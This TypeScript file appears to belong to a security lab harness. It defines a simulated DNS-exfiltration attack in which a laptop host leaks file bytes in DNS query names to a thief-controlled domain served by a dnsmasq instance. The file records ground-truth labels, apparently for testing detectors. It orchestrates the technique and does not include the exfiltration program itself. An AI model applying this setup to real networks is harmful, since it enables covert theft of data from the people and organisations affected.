import { type Attack, type Intensity, intensities } from '../contracts.ts';
import { routerAddress } from '../layout.ts';
import { endInside } from '../machine.ts';
import { runProgram } from '../programs/run-program.ts';
import { isOpen } from '../services/daemon.ts';
import { delegatedNames } from '../services/world-names.ts';

const [, domain] = delegatedNames;
const dnsPort = 53;
/** Below what the kernel gives to the habits of the same host. */
const firstPort = 27_000;
const bytesPerSecond: Readonly<Record<Intensity, number>> = { quiet: 30, medium: 500, loud: 6000 };
const lastSeconds = 2;

/** Our own program: a file in the labels of names below a domain of the thief's, through the house's resolver. */
export const dnsExfiltration: Attack = {
  kind: 'dns-exfiltration',
  summary: 'a file carried out in names that are looked up',
  needs: ['dnsmasq'],
  intensities,
  actor: 'laptop',
  targets: ['router'],
  async run({ lab, intensity, actor, random, seconds, signal }) {
    const control = lab.host('control');
    const answers = [`--address=/${domain}/${control.address}`, `--local=/${domain}/`];
    const always = ['-k', '--no-resolv', '--no-hosts', '--user=root', '--pid-file=', '--conf-file=/dev/null'];
    const server = isOpen(control, { udp: dnsPort })
      ? undefined
      : control.machine.spawn('dnsmasq', [...always, ...answers]);
    server?.stdout?.resume();
    server?.stderr?.resume();
    const time = Math.max(1, seconds - lastSeconds);
    const bytes = Math.round(bytesPerSecond[intensity] * time);
    const port = firstPort + random.below(1000);
    const words = [
      routerAddress,
      domain,
      String(port),
      String(bytes),
      String(time),
      String(random.below(1e9)),
    ];
    await runProgram(actor, 'dns-exfiltration', words, signal);
    if (server !== undefined) endInside(server);
    return {
      tool: 'dns-exfiltration',
      arguments: words.join(' '),
      claims: [
        {
          actors: [actor.address],
          targets: [routerAddress],
          protocol: 'udp',
          actorPorts: [port],
          targetPorts: [dnsPort],
        },
      ],
    };
  },
};
